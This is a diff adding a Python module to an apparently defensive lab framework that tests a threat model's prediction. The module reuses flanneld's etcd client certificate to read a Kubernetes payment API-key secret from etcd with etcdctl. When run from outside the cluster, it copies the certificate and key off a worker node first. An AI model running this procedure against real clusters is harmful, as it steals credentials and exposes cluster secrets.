@@ -1,0 +1,128 @@
+"""Read the cluster's secrets out of etcd with what flannel uses it with.
+
+flannel keeps the layout of the pod network in etcd, and flanneld runs on every worker: so every
+worker holds something that opens etcd. How far it opens it is a matter of etcd's users.
+"""
+
+from __future__ import annotations
+
+import secrets
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Credential
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import Channel, View, credential
+from labkit.techniques._base import OUTSIDE, ROOT_ON_WORKER, SECRETS, Prediction, Technique
+from labkit.techniques._etcd import keeps_plaintext
+from labkit.techniques._reach import inside, run_from
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab, Output
+
+__all__ = ["TECHNIQUE"]
+
+WORKER = "worker1"
+CHANNEL = f"flanneld@{WORKER} -> etcd@*"
+WANTED = ("payments", "card-processor", "api-key")
+KEY, OWN = "/registry/secrets/payments/card-processor", "/coreos.com/network/config"
+#: What etcd, and TLS before it, say to somebody whom they do not let.
+REFUSALS = ("permission denied", "user name is empty", "certificate required", "bad certificate")
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether etcd has users, and what it keeps."""
+    claim = view.channels(CHANNEL)[0].authorization
+    if claim.value != "allow-all":
+        return Prediction(False, (str(claim),))
+    return keeps_plaintext(view)
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask etcd for a secret, as flanneld."""
+    secret = true_secret(lab, *WANTED)
+    view = View(lab.environment)
+    channel = view.channels(CHANNEL)[0]
+    held = credential(view.graph, channel)
+    what = "with flanneld's certificate" if held else "as flanneld does, without a credential"
+    evidence = f"asked etcd for {KEY}, {what}"
+    with _etcdctl(lab, foothold, channel, held) as call:
+        answer, own = call(KEY), call(OWN)
+    if own.exit_code or not own.stdout.strip():
+        raise ProbeError(f"etcd does not even give flannel {OWN}", evidence=_tail(own))
+    control = f"the same gives {OWN}, which is flannel's own"
+    if secret.found_in(answer.stdout):
+        found = f"read: {secret.proof}"
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "etcd gives it", (evidence, found))
+    if answer.stdout.startswith(b"k8s:enc:"):
+        reason = "the value is a ciphertext"
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (evidence,), control)
+    reason = next((word for word in REFUSALS if word in answer.error), "")
+    if not answer.exit_code or not reason:
+        raise ProbeError("etcd's answer says nothing", evidence=_tail(answer))
+    return Verdict(
+        TECHNIQUE.name, lab.mode, foothold, False, f"etcd: {reason}", (evidence,), control
+    )
+
+
+@contextmanager
+def _etcdctl(
+    lab: Lab, foothold: str, channel: Channel, held: Credential | None
+) -> Iterator[Callable[[str], Output]]:
+    """Yield a function that asks etcd for a key; outside, with a copy of the certificate."""
+    server = channel.server.partition("@")[2]
+    inside(lab, server)
+    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
+    argv = ["etcdctl", "--command-timeout=4s", "get", "--print-value-only"]
+    argv.append(f"--endpoints={channel.protocol}://{server}:{channel.port}")
+    copied = foothold == OUTSIDE and held is not None
+    if held is not None:
+        authority = next(a for a in lab.environment.authorities if a.name == held.signed_by)
+        paths = {"cert": held.certificate, "key": held.key, "cacert": authority.certificate}
+        argv += [
+            f"--{name}={f'{folder}/{name}' if copied else path}" for name, path in paths.items()
+        ]
+
+    def call(key: str) -> Output:
+        output = run_from(lab, foothold, [*argv, key])
+        if "context deadline exceeded" in output.error:
+            raise ProbeTimeout(f"etcd@{server} did not answer", evidence=_tail(output))
+        return output
+
+    try:
+        if copied:
+            run_from(lab, foothold, ["mkdir", "--mode=0700", folder])
+            for name, path in paths.items():
+                data = lab.read_file(WORKER, path)
+                run_from(lab, foothold, ["tee", f"{folder}/{name}"], stdin=data)
+        yield call
+    finally:
+        if copied:
+            run_from(lab, foothold, ["rm", "-rf", folder])
+
+
+def _tail(output: Output) -> list[str]:
+    return output.error.strip().splitlines()[-3:]
+
+
+TECHNIQUE = Technique(
+    name="flannel-credential",
+    title="Read the cluster's secrets with flannel's way into etcd",
+    footholds=(ROOT_ON_WORKER, OUTSIDE),
+    grants=(SECRETS,),
+    about="flanneld@* -> etcd@*",
+    properties=("client_authentication", "authorization"),
+    attack=("T1552.004", "T1552.007"),
+    stride=("information disclosure", "elevation of privilege"),
+    cwe=("CWE-269", "CWE-653"),
+    sources=(
+        "Securing communications in Kubernetes (2016), etcd",
+        "https://etcd.io/docs/latest/op-guide/authentication/rbac/",
+        "https://attack.mitre.org/techniques/T1552/004/",
+    ),
+    predict=predict,
+    execute=execute,
+)
